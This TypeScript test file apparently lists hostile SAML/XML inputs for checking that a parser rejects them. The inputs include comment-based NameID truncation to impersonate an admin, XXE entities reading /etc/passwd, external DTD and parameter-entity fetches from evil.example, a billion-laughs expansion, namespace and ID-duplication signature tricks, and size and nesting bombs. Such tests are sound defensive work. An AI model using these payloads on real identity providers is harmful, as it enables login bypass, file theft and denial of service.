import type { SamlReason } from '../../src/index.ts'
import { type Attack, swap } from '../attack.ts'
import { nameIdOf } from '../messages.ts'

const changed = (name: string, from: string | RegExp, to: string, reason: SamlReason = 'malformed'): Attack => ({
  name,
  reason,
  make: (base) => swap(base, from, to),
})

/** A user has a name that becomes the administrator's when it is cut where the attacker wants. */
const cut = (name: string, cutting: string): Attack => ({
  name,
  reason: 'malformed',
  make: (_base, parties) =>
    swap(
      parties.respond({ nameId: nameIdOf('admin@example.com.evil.example') }),
      '.evil.example',
      `${cutting}.evil.example`,
    ),
})

const before = (text: string): [string, string] => ['<samlp:Response', `${text}<samlp:Response`]
const entities = Array.from({ length: 9 }, (_, level) => `<!ENTITY e${level + 1} "${`&e${level};`.repeat(10)}">`).join(
  '',
)

export const xmlAttacks: readonly Attack[] = [
  cut('a comment in the name', '<!---->'),
  cut('a processing instruction in the name', '<?x ?>'),
  cut('an empty CDATA section in the name', '<![CDATA[]]>'),
  changed('a name in a CDATA section', '>ann@example.com<', '><![CDATA[ann@example.com]]><'),
  changed('a comment in the digest', /(?<=DigestValue>)/, '<!--47DEQpj8HBSa+/TImW+5JCeuQeRkm5NMpJWZG3hSuFU=-->'),
  changed('a comment in the signature value', /(?<=<ds:SignatureValue>)/, '<!---->'),
  changed('a comment in the audience', '<saml:Audience>', '<saml:Audience><!-- -->'),
  changed('a comment before the response', ...before('<!-- -->')),
  changed('a DTD', ...before('<!DOCTYPE samlp:Response>')),
  changed('a DTD of another host', ...before('<!DOCTYPE samlp:Response SYSTEM "https://evil.example/x.dtd">')),
  {
    name: 'an entity of a file in the name',
    reason: 'malformed',
    make: (base) =>
      swap(
        swap(base, ...before('<!DOCTYPE r [<!ENTITY file SYSTEM "file:///etc/passwd">]>')),
        'ann@example.com',
        '&file;',
      ),
  },
  {
    name: 'entities that grow tenfold nine times',
    reason: 'malformed',
    make: (base) =>
      swap(swap(base, ...before(`<!DOCTYPE r [<!ENTITY e0 "x">${entities}]>`)), 'ann@example.com', '&e9;'),
  },
  changed('a parameter entity', ...before('<!DOCTYPE r [<!ENTITY % p SYSTEM "https://evil.example/p"> %p;]>')),
  changed('an attribute with a default in a DTD', ...before('<!DOCTYPE r [<!ATTLIST saml:Assertion ID ID #IMPLIED>]>')),
  changed('an entity that nobody declared', 'ann@example.com', '&admin;'),
  changed('a processing instruction before the response', ...before('<?xml-stylesheet href="x.xsl"?>')),
  changed('XML 1.1', ...before('<?xml version="1.1"?>')),
  changed('an encoding that is not UTF-8', ...before('<?xml version="1.0" encoding="ISO-8859-1"?>')),
  changed('UTF-7', ...before('<?xml version="1.0" encoding="UTF-7"?>')),
  changed('an XML declaration after white space', ...before(' <?xml version="1.0"?>')),
  changed('a second root', '</samlp:Response>', '</samlp:Response><x/>'),
  changed('text after the response', '</samlp:Response>', '</samlp:Response>x'),
  changed('an attribute that is there twice', 'ID="_assertion-1"', 'ID="_assertion-1" ID="_assertion-1"'),
  changed('a prefix that is not declared', '<saml:Subject>', '<saml:Subject evil:a="b">'),
  changed('a prefix that begins with a digit', '<saml:Subject>', '<saml:Subject xmlns:3d="urn:x">'),
  changed('a name outside ASCII', '</samlp:Response>', '<é/></samlp:Response>'),
  changed('an element that is not closed', '</saml:Subject>', ''),
  changed('tags that overlap', '</saml:NameID>', '</saml:Subject></saml:NameID>'),
  changed('a null character', 'ann@example.com', 'ann@example.com\u0000'),
  changed('a reference to a null character', 'ann@example.com', 'ann@example.com&#0;'),
  changed('half of a surrogate pair', 'ann@example.com', 'ann@example.com\ud800'),
  changed('an id in two spellings on one element', 'ID="_assertion-1"', 'ID="_assertion-1" Id="_other"'),
  changed('an id in a namespace on the same element', 'ID="_assertion-1"', 'ID="_assertion-1" saml:ID="_other"'),
  changed('an assertion without an id', ' ID="_assertion-1"', ''),
  changed('an assertion whose id is in a namespace only', ' ID="_assertion-1"', ' saml:ID="_assertion-1"'),
  changed(
    'a response of another namespace',
    'xmlns:samlp="urn:oasis:names:tc:SAML:2.0:protocol"',
    'xmlns:samlp="urn:oasis:names:tc:SAML:1.0:protocol"',
  ),
  changed(
    'a prefix bound anew inside the assertion',
    '<saml:Subject>',
    '<saml:Subject xmlns:saml="urn:evil">',
    'signature',
  ),
  changed(
    'a namespace that closes its own attribute',
    '<saml:Subject>',
    '<saml:Subject xmlns:x="a&quot; x:y=&quot;b" x:z="1">',
    'signature',
  ),
  changed('an empty document', /.*/s, ''),
  changed('text without XML', /.*/s, 'SAMLResponse'),
  changed('HTML', /.*/s, '<!doctype html><html></html>'),
  changed('more bytes than a message may have', 'ann@example.com', 'a'.repeat(256 * 1024), 'too_large'),
  changed(
    'elements nested 33 deep',
    '</samlp:Response>',
    `${'<x>'.repeat(32)}${'</x>'.repeat(32)}</samlp:Response>`,
    'too_large',
  ),
  changed('elements nested ten thousand deep', '</samlp:Response>', '<x>'.repeat(10_000), 'too_large'),
  changed('too many elements', '</samlp:Response>', `${'<x/>'.repeat(2000)}</samlp:Response>`, 'too_large'),
  changed(
    'too many attributes on an element',
    '<saml:Subject>',
    `<saml:Subject ${Array.from({ length: 33 }, (_, index) => `a${index}=""`).join(' ')}>`,
    'too_large',
  ),
  changed(
    'too many namespaces on an element',
    '<saml:Subject>',
    `<saml:Subject ${Array.from({ length: 33 }, (_, index) => `xmlns:a${index}="u"`).join(' ')}>`,
    'too_large',
  ),
]
